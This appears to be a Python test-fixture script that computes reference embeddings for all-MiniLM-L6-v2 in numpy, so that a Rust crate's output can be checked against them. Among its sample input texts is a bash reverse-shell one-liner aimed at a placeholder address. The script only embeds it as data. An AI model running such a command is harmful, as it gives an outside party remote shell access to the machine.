"""Makes embeddings.json: reference embeddings of all-MiniLM-L6-v2.

Plain numpy in float64 over the checkpoint's own files; shares no code with the
crate except that Python's `tokenizers` splits the text. Run with Python 3.11,
numpy 2.4.6, tokenizers 0.23.3:   python make.py DIRECTORY_OF_THE_MODEL

Tolerance: the crate computes in f32 and must reproduce each component to 1e-5.
"""

import json
import math
import struct
import sys

import numpy as np
from tokenizers import Tokenizer

TEXTS = [
    "A man is eating food.",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "",
    "Größe, naïve café, 日本語 👩‍👧",
    "word " * 400,
]


def load(path):
    raw = open(path, "rb").read()
    (length,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8 : 8 + length])
    tensors = {}
    for name, entry in header.items():
        if name == "__metadata__" or entry["dtype"] != "F32":
            continue
        start, end = (8 + length + offset for offset in entry["data_offsets"])
        values = np.frombuffer(raw[start:end], np.float32).astype(np.float64)
        tensors[name] = values.reshape(entry["shape"])
    return tensors


def main():
    directory = sys.argv[1]
    config = json.load(open(f"{directory}/config.json"))
    w = load(f"{directory}/model.safetensors")
    tokenizer = Tokenizer.from_file(f"{directory}/tokenizer.json")
    tokenizer.no_padding()
    tokenizer.enable_truncation(256)
    heads = config["num_attention_heads"]
    erf = np.vectorize(math.erf)

    def norm(x, name):
        centred = x - x.mean(-1, keepdims=True)
        scale = np.sqrt((centred**2).mean(-1, keepdims=True) + config["layer_norm_eps"])
        return centred / scale * w[f"{name}.weight"] + w[f"{name}.bias"]

    def embed(text):
        ids = tokenizer.encode(text).ids
        dense = lambda x, name: x @ w[f"{name}.weight"].T + w[f"{name}.bias"]
        e = "embeddings."
        x = w[e + "word_embeddings.weight"][ids] + w[e + "token_type_embeddings.weight"][0]
        x = norm(x + w[e + "position_embeddings.weight"][: len(ids)], e + "LayerNorm")
        for i in range(config["num_hidden_layers"]):
            p = f"encoder.layer.{i}."
            split = lambda name: dense(x, p + "attention.self." + name).reshape(len(ids), heads, -1)
            q, k, v = split("query"), split("key"), split("value")
            scores = np.einsum("qhd,khd->hqk", q, k) / math.sqrt(q.shape[-1])
            scores = np.exp(scores - scores.max(-1, keepdims=True))
            scores /= scores.sum(-1, keepdims=True)
            mixed = np.einsum("hqk,khd->qhd", scores, v).reshape(len(ids), -1)
            x = norm(x + dense(mixed, p + "attention.output.dense"), p + "attention.output.LayerNorm")
            inner = dense(x, p + "intermediate.dense")
            inner = inner * 0.5 * (1 + erf(inner / math.sqrt(2)))
            x = norm(x + dense(inner, p + "output.dense"), p + "output.LayerNorm")
        mean = x.mean(0)
        return mean / np.linalg.norm(mean)

    rows = [{"text": t, "embedding": [round(float(v), 8) for v in embed(t)]} for t in TEXTS]
    with open("embeddings.json", "w") as file:
        json.dump(rows, file)
        file.write("\n")


main()
